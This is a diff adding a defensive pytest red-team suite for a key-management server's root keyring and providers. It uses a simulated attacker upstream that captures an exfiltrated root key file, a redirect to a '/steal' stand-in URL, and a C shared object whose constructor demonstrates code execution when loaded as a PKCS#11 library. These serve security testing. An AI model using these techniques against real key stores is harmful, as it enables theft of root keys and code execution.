@@ -1,0 +1,529 @@
+"""Red-team tests for the root of trust (issue 18): what an outside attacker tries against
+the keyring, the providers and the files they read. Findings the code does not hold yet
+are ``xfail(strict=True)`` with the finding's number; the rest are guards that keep holding.
+
+The attacker of the first section can write the database (a DBA, a stolen replication
+credential, an SQL injection elsewhere) but not the server's host: he edits the
+``qimem_root_keyring`` row only. A keyring is a plain JSON document, so everything it
+records (a version's provider, its settings, its state) is his to choose.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import shutil
+import subprocess
+import threading
+import time
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+import root_helpers as rh
+import sqlalchemy as sa
+from cryptography.exceptions import InvalidTag
+from cryptography.hazmat.primitives.ciphers.aead import AESGCM
+
+from qimem import fileio
+from qimem.app import AppContext
+from qimem.builtin_plugins.root_qimem_provider import QimemRootKeyProvider, read_credential
+from qimem.errors import ConfigError, DecryptionError
+from qimem.root import keyring as kr
+from qimem.root import rotation
+from qimem.root.kwk import check_value, wrapping_key
+from qimem.rootkey import encode_root_key, generate_root_key, read_root_key_file
+from qimem.services.crypto import encrypt
+from qimem.services.keys import create_key
+
+# -- an attacker's upstream: records what it is sent, answers what he wants --------------------
+
+
+class EvilUpstream:
+    """A loopback HTTP server standing in for the attacker's machine (in the field: any
+    https host with a publicly trusted certificate). It records every request's headers and
+    body and answers a decrypt with ``kwk`` (the key-wrapping key the attacker chose)."""
+
+    def __init__(self, kwk: bytes, key_id: str, *, status: int = 200, extra: bytes = b"") -> None:
+        self.kwk, self.key_id, self.status, self.extra = kwk, key_id, status, extra
+        self.seen: list[tuple[str, dict[str, str], bytes]] = []
+        outer = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_POST(self) -> None:  # noqa: N802 (http.server's name)
+                length = int(self.headers.get("Content-Length") or 0)
+                body = self.rfile.read(length)
+                outer.seen.append((self.path, dict(self.headers), body))
+                if outer.status in (301, 302, 307, 308):
+                    self.send_response(outer.status)
+                    self.send_header("Location", "http://127.0.0.1:9/steal")
+                    self.send_header("Content-Length", "0")
+                    self.end_headers()
+                    return
+                answer = json.dumps(
+                    {"plaintext": base64.b64encode(outer.kwk).decode(), "key_id": outer.key_id}
+                ).encode()
+                answer += outer.extra
+                self.send_response(outer.status)
+                self.send_header("Content-Type", "application/json")
+                self.send_header("Content-Length", str(len(answer)))
+                self.end_headers()
+                self.wfile.write(answer)
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self._thread.start()
+
+    def sent(self) -> bytes:
+        return b"".join(
+            path.encode() + json.dumps(headers).encode() + body for path, headers, body in self.seen
+        )
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+# -- a file-rooted SQLite store that was rotated once (version 2 active) ----------------------
+
+
+@pytest.fixture
+def victim(tmp_path: Path) -> Iterator[tuple[str, Path, bytes]]:
+    """The store's URL, its root key file, and an upstream-style envelope the attacker can
+    reuse as a "wrapped" blob (any well-formed envelope: he answers the decrypt himself)."""
+    url = f"sqlite:///{tmp_path / 'store.db'}"
+    key_file = tmp_path / "root.key"
+    from qimem.rootkey import write_root_key_file
+
+    write_root_key_file(key_file)[:] = bytes(32)
+    app = rh.file_app(url, key_file)
+    try:
+        create_key(app, name="enc")
+        envelope = encrypt(app, "enc", b"x", aad=b"").envelope
+        rh.fast_rotate(app, settle=0.0)
+    finally:
+        rh.close(app)
+    yield url, key_file, envelope
+
+
+def _inject(url: str, provider: str, settings: dict[str, Any], wrapped: bytes, check: str) -> None:
+    """As the database writer: add version 3 (``provider`` with ``settings``) as the active
+    version, the previous active one draining: what a rotation in progress looks like."""
+    doc = json.loads(rh.keyring_text(url) or "")
+    for version in doc["versions"]:
+        if version["state"] == "active":
+            version["state"] = "draining"
+    doc["versions"].append(
+        {
+            "version": 3,
+            "provider": provider,
+            "settings": settings,
+            "check": check,
+            "created": "2026-12-04T01:00:00Z",
+            "state": "active",
+            "wrapped": base64.b64encode(wrapped).decode(),
+        }
+    )
+    doc["active"] = 3
+    rh.set_keyring_text(url, json.dumps(doc))
+
+
+def _envelope_key_id(envelope: bytes) -> str:
+    from qimem import envelope as env
+
+    return env.parse(envelope).key_id_str
+
+
+def _open_quietly(url: str, key_file: Path) -> AppContext | None:
+    """The store opened as a server would at its next start (``None``: it refused)."""
+    try:
+        return rh.file_app(url, key_file)
+    except ConfigError:
+        return None
+
+
+FINDING_1 = (
+    "finding 1 (critical): a database writer chooses a root version's provider settings "
+    "(url, token_file, library...) and the server uses them as configuration"
+)
+
+
+@pytest.mark.xfail(strict=True, reason=FINDING_1)
+def test_db_writer_cannot_send_a_local_secret_file_to_his_server(
+    victim: tuple[str, Path, bytes],
+) -> None:
+    """A ``qimem`` version whose ``token_file`` is the server's root key file and whose
+    ``url`` is the attacker's: the server reads the file and sends it as a bearer token."""
+    url, key_file, envelope = victim
+    evil = EvilUpstream(os.urandom(32), _envelope_key_id(envelope))
+    try:
+        settings = {"url": evil.url, "key": "k", "token_file": str(key_file), "timeout": 2}
+        _inject(url, "qimem", settings, b"\x01" + envelope, "00" * 16)
+        app = _open_quietly(url, key_file)
+        if app is not None:
+            rh.close(app)
+        root_key = key_file.read_text().strip().encode()
+        assert root_key not in evil.sent(), "the root key file was sent to the attacker"
+        assert not evil.seen, "the server contacted a URL only the database named"
+    finally:
+        evil.close()
+
+
+@pytest.mark.xfail(strict=True, reason=FINDING_1)
+def test_db_writer_cannot_make_the_server_wrap_new_keys_under_his_kwk(
+    victim: tuple[str, Path, bytes], tmp_path: Path
+) -> None:
+    """The attacker's upstream answers the unwrap with a KWK he chose and the keyring
+    records its check value: new key material is then sealed under a key he knows, and he
+    reads it from the database he can already read."""
+    url, key_file, envelope = victim
+    kwk = os.urandom(32)
+    evil = EvilUpstream(kwk, _envelope_key_id(envelope))
+    token = tmp_path / "any-0600-file"
+    fd = os.open(token, os.O_WRONLY | os.O_CREAT, 0o600)
+    os.write(fd, b"whatever\n")
+    os.close(fd)
+    try:
+        settings = {"url": evil.url, "key": "k", "token_file": str(token), "timeout": 2}
+        _inject(url, "qimem", settings, b"\x01" + envelope, check_value(kwk))
+        app = _open_quietly(url, key_file)
+        if app is None:
+            return  # refused: the attack failed
+        try:
+            create_key(app, name="victim-key")
+            stolen = _rows_opened_with(app, kwk)
+        finally:
+            rh.close(app)
+        assert stolen == 0, f"{stolen} new wrapped rows open under the attacker's KWK"
+    finally:
+        evil.close()
+
+
+def _rows_opened_with(app: AppContext, kwk: bytes) -> int:
+    """How many wrapped rows of the store a reader holding ``kwk`` opens (what the attacker
+    does with his database copy: the rows' contexts are public row identities)."""
+    rows = rotation.root_rows(app)
+    assert rows is not None
+    aead = AESGCM(wrapping_key(kwk))
+    opened = 0
+    with rows.engine.connect() as conn:
+        for column in rows.columns:
+            table = sa.Table(column.table, sa.MetaData(), autoload_with=conn)
+            for row in conn.execute(sa.select(table)):
+                blob = row._mapping[column.blob]
+                if blob is None or bytes(blob)[0] != 2:
+                    continue
+                blob = bytes(blob)
+                try:
+                    aead.decrypt(blob[5:17], blob[17:], column.context(row))
+                    opened += 1
+                except InvalidTag:
+                    pass
+    return opened
+
+
+_EVIL_SO = r"""
+#include <stdio.h>
+#include <stdlib.h>
+__attribute__((constructor)) static void pwned(void) {
+    const char *marker = getenv("REDTEAM_MARKER");
+    if (marker) { FILE *f = fopen(marker, "w"); if (f) { fputs("code ran", f); fclose(f); } }
+}
+"""
+
+
+@pytest.mark.xfail(strict=True, reason=FINDING_1)
+def test_db_writer_cannot_make_the_server_load_his_pkcs11_library(
+    victim: tuple[str, Path, bytes], tmp_path: Path
+) -> None:
+    """A ``pkcs11`` version whose ``library`` is a shared object of the attacker's choice
+    (any path the server can read: an upload directory, a tmp file): the server dlopens it
+    at its next start, i.e. database write becomes code execution as the qimem user."""
+    pytest.importorskip("pkcs11")
+    compiler = shutil.which("cc") or shutil.which("gcc")
+    if compiler is None:
+        pytest.skip("no C compiler to build the attacker's shared object")
+    url, key_file, _ = victim
+    source, library = tmp_path / "evil.c", tmp_path / "evil.so"
+    source.write_text(_EVIL_SO)
+    subprocess.run([compiler, "-shared", "-fPIC", "-o", str(library), str(source)], check=True)
+    pin = tmp_path / "pin"
+    pin.write_text("1234\n")
+    pin.chmod(0o600)
+    settings = {"library": str(library), "token_label": "t", "key_label": "k", "pin_file": str(pin)}
+    _inject(url, "pkcs11", settings, b"\x01" * 60, "00" * 16)
+    marker = tmp_path / "marker"
+    config = rh.write_config(tmp_path, url, root_file=key_file)
+    result = rh.qimem_cli(config, "root", "status", timeout=60, REDTEAM_MARKER=str(marker))
+    assert "Traceback" not in result.stderr
+    assert not marker.exists(), "the attacker's library ran inside qimem"
+
+
+# -- finding 2: downgrade to an old root version ------------------------------------------------
+
+
+@pytest.fixture
+def rotated_twice(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[str, str]:
+    """An env-rooted SQLite store rotated twice (1 and 2 retired, 3 active)."""
+    url = f"sqlite:///{tmp_path / 'store.db'}"
+    key = encode_root_key(generate_root_key())
+    app = rh.env_app(url, key, monkeypatch)
+    try:
+        create_key(app, name="enc")
+        rh.fast_rotate(app, settle=0.0)
+        rh.fast_rotate(app, settle=0.0)
+        assert app.wrapper is not None and app.wrapper.active_version == 3
+    finally:
+        rh.close(app)
+    return url, key
+
+
+def _reopen_active(url: str, key: str, monkeypatch: pytest.MonkeyPatch) -> int | None:
+    try:
+        app = rh.env_app(url, key, monkeypatch)
+    except ConfigError as exc:
+        assert "Traceback" not in str(exc)
+        return None
+    try:
+        create_key(app, name="after-the-edit")
+        assert app.wrapper is not None
+        return app.wrapper.active_version
+    finally:
+        rh.close(app)
+
+
+def test_db_writer_cannot_reactivate_a_retired_version(
+    rotated_twice: tuple[str, str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Finding 2: flipping states only (2 active again, 3 draining) made new keys wrap under
+    version 2, whose KWK the operator rotated away from (e.g. after it was read from a
+    compromised host's memory). The active version must be the newest one."""
+    url, key = rotated_twice
+    doc = json.loads(rh.keyring_text(url) or "")
+    for version in doc["versions"]:
+        version["state"] = {2: "active", 3: "draining"}.get(version["version"], version["state"])
+    doc["active"] = 2
+    rh.set_keyring_text(url, json.dumps(doc))
+    assert _reopen_active(url, key, monkeypatch) in (None, 3)
+
+
+def test_db_writer_cannot_renumber_the_direct_version(
+    rotated_twice: tuple[str, str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Finding 2: a copy of version 1's record (the root key itself, ``direct``) added as
+    version 4 and made active: new rows would be sealed directly under the old root key.
+    Only version 1 may be direct (rotations always wrap their KWK)."""
+    url, key = rotated_twice
+    doc = json.loads(rh.keyring_text(url) or "")
+    first = next(v for v in doc["versions"] if v["version"] == 1)
+    assert first.get("direct") is True
+    for version in doc["versions"]:
+        if version["state"] == "active":
+            version["state"] = "draining"
+    doc["versions"].append({**first, "version": 4, "state": "active"})
+    doc["active"] = 4
+    rh.set_keyring_text(url, json.dumps(doc))
+    assert _reopen_active(url, key, monkeypatch) in (None, 3)
+
+
+def test_legitimate_keyrings_still_parse(rotated_twice: tuple[str, str]) -> None:
+    """Positive control for finding 2's checks: a store rotated twice opens as it is."""
+    url, _ = rotated_twice
+    keyring = kr.parse(rh.keyring_text(url) or "")
+    assert keyring.active == max(v.version for v in keyring.versions) == 3
+
+
+# -- finding 3: secret files that are FIFOs hang startup forever ---------------------------------
+
+
+def _fifo(tmp_path: Path, name: str) -> Path:
+    path = tmp_path / name
+    os.mkfifo(path, 0o600)
+    return path
+
+
+def _returns_quickly(tmp_path: Path, name: str, read: Any) -> BaseException | None:
+    """``read(fifo)`` in a thread: what it raised, or a failure if it blocked (the FIFO is
+    then opened for writing and closed, so the blocked reader sees EOF and ends)."""
+    fifo = _fifo(tmp_path, name)
+    outcome: list[BaseException | None] = []
+
+    def run() -> None:
+        try:
+            read(fifo)
+            outcome.append(None)
+        except BaseException as exc:  # noqa: BLE001 - handed to the test
+            outcome.append(exc)
+
+    thread = threading.Thread(target=run, daemon=True)
+    thread.start()
+    thread.join(3)
+    if thread.is_alive():
+        fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
+        os.close(fd)
+        thread.join(5)
+        pytest.fail(f"reading a FIFO as the {name} blocked (a startup that never ends)")
+    return outcome[0]
+
+
+@pytest.mark.parametrize(
+    "name,read",
+    [
+        ("root key file", read_root_key_file),
+        ("PIN file", lambda p: fileio.read_private_file(p, "PIN file", 64)),
+        ("token file", lambda p: read_credential(p, "token_file")),
+    ],
+)
+def test_fifo_secret_file_is_refused_not_waited_on(tmp_path: Path, name: str, read: Any) -> None:
+    """Finding 3: a secret file path naming a FIFO (a config typo, or a database writer's
+    recorded settings) made the open block until someone wrote to it."""
+    error = _returns_quickly(tmp_path, name, read)
+    assert isinstance(error, ConfigError), error
+    assert "not a regular file" in str(error)
+
+
+def test_oversized_root_key_file_is_refused_unread(tmp_path: Path) -> None:
+    """Finding 3: a root key file is 45 bytes; a huge one (a path to a log or a disk image)
+    was read whole into memory before being refused."""
+    path = tmp_path / "huge.key"
+    with open(path, "wb") as handle:
+        handle.truncate(64 << 20)  # sparse: 64 MiB that take no disk
+    path.chmod(0o600)
+    started = time.monotonic()
+    with pytest.raises(ConfigError, match="too large"):
+        read_root_key_file(path)
+    assert time.monotonic() - started < 1
+
+
+def test_root_key_file_guards_still_hold(tmp_path: Path) -> None:
+    """Positive controls next to finding 3's fix: a good file reads, a 0644 one, a
+    directory and /dev/zero are refused by name, a symlink to a good file still works."""
+    from qimem.rootkey import write_root_key_file
+
+    good = tmp_path / "root.key"
+    write_root_key_file(good)[:] = bytes(32)
+    assert len(read_root_key_file(good)) == 32
+    link = tmp_path / "link.key"
+    link.symlink_to(good)
+    assert read_root_key_file(link) == read_root_key_file(good)
+    good.chmod(0o644)
+    with pytest.raises(ConfigError, match="accessible by group or others"):
+        read_root_key_file(good)
+    with pytest.raises(ConfigError, match="accessible by group or others"):
+        read_root_key_file(Path("/dev/zero"))
+    directory = tmp_path / "dir"
+    directory.mkdir(mode=0o700)
+    with pytest.raises(ConfigError, match="root key file"):
+        read_root_key_file(directory)
+
+
+# -- guards: the qimem upstream provider against a hostile upstream ------------------------------
+
+
+def _provider(url: str, tmp_path: Path, **extra: Any) -> QimemRootKeyProvider:
+    token = tmp_path / "token"
+    if not token.exists():
+        fd = os.open(token, os.O_WRONLY | os.O_CREAT, 0o600)
+        os.write(fd, b"service-token-7Qx\n")
+        os.close(fd)
+    settings = {"url": url, "key": "k", "token_file": str(token), "timeout": 2, **extra}
+    return QimemRootKeyProvider.from_settings(settings, tmp_path)
+
+
+def test_upstream_redirect_is_not_followed(victim: tuple[str, Path, bytes], tmp_path: Path) -> None:
+    _, _, envelope = victim
+    evil = EvilUpstream(os.urandom(32), _envelope_key_id(envelope), status=307)
+    try:
+        provider = _provider(evil.url, tmp_path)
+        with pytest.raises(ConfigError) as caught:
+            provider.unwrap(b"\x01" + envelope, b"ctx")
+        assert "service-token-7Qx" not in str(caught.value)
+        assert len(evil.seen) == 1  # one request, to the configured URL only
+    finally:
+        evil.close()
+
+
+def test_upstream_huge_answer_is_bounded(victim: tuple[str, Path, bytes], tmp_path: Path) -> None:
+    _, _, envelope = victim
+    evil = EvilUpstream(os.urandom(32), _envelope_key_id(envelope), extra=b" " * (8 << 20))
+    try:
+        with pytest.raises(ConfigError):
+            _provider(evil.url, tmp_path).unwrap(b"\x01" + envelope, b"ctx")
+    finally:
+        evil.close()
+
+
+@pytest.mark.parametrize("size", [0, 16, 31, 33, 64])
+def test_upstream_answering_another_length_is_a_decryption_error(
+    victim: tuple[str, Path, bytes], tmp_path: Path, size: int
+) -> None:
+    _, _, envelope = victim
+    evil = EvilUpstream(os.urandom(size), _envelope_key_id(envelope))
+    try:
+        with pytest.raises((DecryptionError, ConfigError)):
+            _provider(evil.url, tmp_path).unwrap(b"\x01" + envelope, b"ctx")
+    finally:
+        evil.close()
+
+
+@pytest.mark.parametrize(
+    "url", ["http://192.0.2.1:8080", "http://example.org", "ftp://127.0.0.1/", "file:///etc"]
+)
+def test_plain_http_to_a_remote_host_is_refused_before_connecting(tmp_path: Path, url: str) -> None:
+    with pytest.raises(ConfigError):
+        provider = _provider(url, tmp_path)
+        provider.wrap(bytes(32), b"ctx")
+
+
+@pytest.mark.parametrize("timeout", [0, -1, 1e9, float("inf"), float("nan"), True, "10"])
+def test_absurd_upstream_timeouts_are_refused(tmp_path: Path, timeout: Any) -> None:
+    with pytest.raises(ConfigError):
+        _provider("http://127.0.0.1:9", tmp_path, timeout=timeout)
+
+
+# -- guards: blobs naming versions that do not exist --------------------------------------------
+
+
+@pytest.mark.parametrize("version", [0, 4, 2**31 - 1, 2**31, 2**32 - 1])
+def test_blob_claiming_a_foreign_version_is_a_decryption_error(
+    rotated_twice: tuple[str, str], monkeypatch: pytest.MonkeyPatch, version: int
+) -> None:
+    url, key = rotated_twice
+    app = rh.env_app(url, key, monkeypatch)
+    try:
+        assert app.wrapper is not None
+        blob = b"\x02" + version.to_bytes(4, "big") + os.urandom(40)
+        with pytest.raises(DecryptionError):
+            app.wrapper.unwrap(blob, b"ctx")
+    finally:
+        rh.close(app)
+
+
+def test_a_wrapped_row_copied_to_another_store_does_not_open(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Cross-store: two stores under the same root key variable, each rotated once; a
+    version-2 blob of one does not open in the other (their version-2 KWKs differ)."""
+    key = encode_root_key(generate_root_key())
+    apps = []
+    try:
+        for name in ("a", "b"):
+            app = rh.env_app(f"sqlite:///{tmp_path / name}.db", key, monkeypatch)
+            apps.append(app)
+            create_key(app, name="enc")
+            rh.fast_rotate(app, settle=0.0)
+        assert apps[0].wrapper is not None and apps[1].wrapper is not None
+        blob = apps[0].wrapper.wrap(b"secret material", b"ctx")
+        assert blob[0] == 2 and apps[0].wrapper.unwrap(blob, b"ctx") == b"secret material"
+        with pytest.raises(DecryptionError):
+            apps[1].wrapper.unwrap(blob, b"ctx")
+    finally:
+        for app in apps:
+            rh.close(app)
